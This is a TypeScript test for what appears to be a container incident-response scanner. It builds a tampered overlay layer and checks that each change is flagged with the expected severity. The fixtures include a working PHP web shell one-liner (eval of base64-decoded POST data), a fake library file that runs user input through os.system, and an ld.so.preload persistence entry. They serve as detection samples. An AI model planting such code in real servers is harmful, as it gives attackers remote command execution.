/**
 * The writable layer judged with the host's rules, on layers built here (root: whiteouts are
 * character devices 0/0): a package file changed against the image's dpkg md5sums, a conffile edited,
 * logs deleted and cut, an executable in a hidden directory, a preload added, scripts added under the
 * app's directory (a web shell, an ordinary script) and a library installed by pip (not judged).
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LocalHost } from '../../src/host/local.js';
import { RootedTarget } from '../../src/host/rooted.js';
import { layerChanges, openLayer } from '../../src/docker/layer.js';
import { judgeLayer } from '../../src/scan/containers/judge-layer.js';
import type { ContainerRecord } from '../../src/docker/storage.js';

const base = mkdtempSync(join(tmpdir(), 'ir-ctr-judge-'));
const IMG = join(base, 'img');
const UP = join(base, 'up');
afterAll(() => rmSync(base, { recursive: true, force: true }));

const md5 = (s: string) => createHash('md5').update(s).digest('hex');
function put(root: string, path: string, content: string, mode = 0o644): void {
  mkdirSync(join(root, path, '..'), { recursive: true });
  writeFileSync(join(root, path), content);
  chmodSync(join(root, path), mode);
}

const rec = { id: 'x', name: 'shop-web-1', image: 'example/app:1', imageId: 'sha256:x', project: 'shop', service: 'web', labels: {}, state: 'exited', running: false, paused: false, pid: 0, workingDir: '/app', command: ['gunicorn', 'app:wsgi'], mounts: [], tmpfs: [], restart: 'no', privileged: false, pidMode: '', networkMode: 'bridge', capAdd: [], driver: 'overlay2' } satisfies ContainerRecord;

test('each change judged by the rule of its place, with the severity the host gives it', async () => {
  expect(process.getuid?.()).toBe(0); // mknod of whiteouts
  // the image: coreutils' ls and a conffile in dpkg's database, two logs
  put(IMG, '/usr/bin/ls', 'ELF ls as shipped');
  put(IMG, '/etc/default/useradd', 'SHELL=/bin/sh\n');
  put(IMG, '/var/lib/dpkg/status', `Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\n\nPackage: passwd\nStatus: install ok installed\nArchitecture: amd64\nConffiles:\n /etc/default/useradd ${md5('SHELL=/bin/sh\n')}\n\n`);
  put(IMG, '/var/lib/dpkg/info/coreutils.list', '/usr/bin\n/usr/bin/ls\n');
  put(IMG, '/var/lib/dpkg/info/coreutils.md5sums', `${md5('ELF ls as shipped')}  usr/bin/ls\n`);
  put(IMG, '/var/lib/dpkg/info/passwd.list', '/etc/default/useradd\n');
  put(IMG, '/var/log/auth.log', 'x'.repeat(5000));
  put(IMG, '/var/log/syslog', 'y'.repeat(100));
  mkdirSync(join(IMG, 'app'), { recursive: true });
  // the container's layer
  put(UP, '/usr/bin/ls', 'ELF ls with a backdoor');
  put(UP, '/etc/default/useradd', 'SHELL=/bin/bash\n');
  put(UP, '/var/log/auth.log', 'x'.repeat(10));
  execFileSync('mknod', [join(UP, 'var/log/syslog'), 'c', '0', '0']);
  put(UP, '/usr/lib/.cache-sys/upd', '\u007fELF....', 0o755);
  put(UP, '/etc/ld.so.preload', '/usr/lib/.cache-sys/libx.so\n');
  put(UP, '/app/static/upload.php', '<?php echo "hello"; ?>\n');
  put(UP, '/app/uploads/a.php', '<?php @eval(base64_decode($_POST["z"])); ?>\n');
  put(UP, '/usr/local/lib/python3.11/site-packages/requests/api.py', 'import os\nos.system(input())\n');

  const host = new LocalHost();
  const image = await RootedTarget.open(host, { name: 'img', layers: [IMG], overlay: true });
  const view = await RootedTarget.open(host, { name: 'c', layers: [UP, IMG], overlay: true });
  const diff = await layerChanges(await openLayer(host, UP, 'c'), image);
  const j = await judgeLayer({ rec, view, image, changes: diff.changes, findings: [], host: 'h' });
  const by = Object.fromEntries(j.findings.map((f) => [`${f.rule} ${f.path}`, f.severity]));
  expect(by).toEqual({
    'containers.package-file-changed /usr/bin/ls': 'critical',
    'containers.conffile-changed /etc/default/useradd': 'info',
    'containers.log-truncated /var/log/auth.log': 'medium',
    'containers.log-deleted /var/log/syslog': 'medium',
    'containers.hidden-executable /usr/lib/.cache-sys/upd': 'medium',
    'containers.persistence-added /etc/ld.so.preload': 'medium',
    'containers.app-script-added /app/static/upload.php': 'low',
    'containers.webshell-request-exec /app/uploads/a.php': 'critical',
  });
  // keys name the path, never the container id; every finding says it was added after the start
  for (const f of j.findings) expect(f.key).toMatch(/^containers:\//);
  expect(j.findings.find((f) => f.path === '/usr/bin/ls')?.details).toMatchObject({ package: 'coreutils', expected: md5('ELF ls as shipped'), actual: md5('ELF ls with a backdoor') });
});
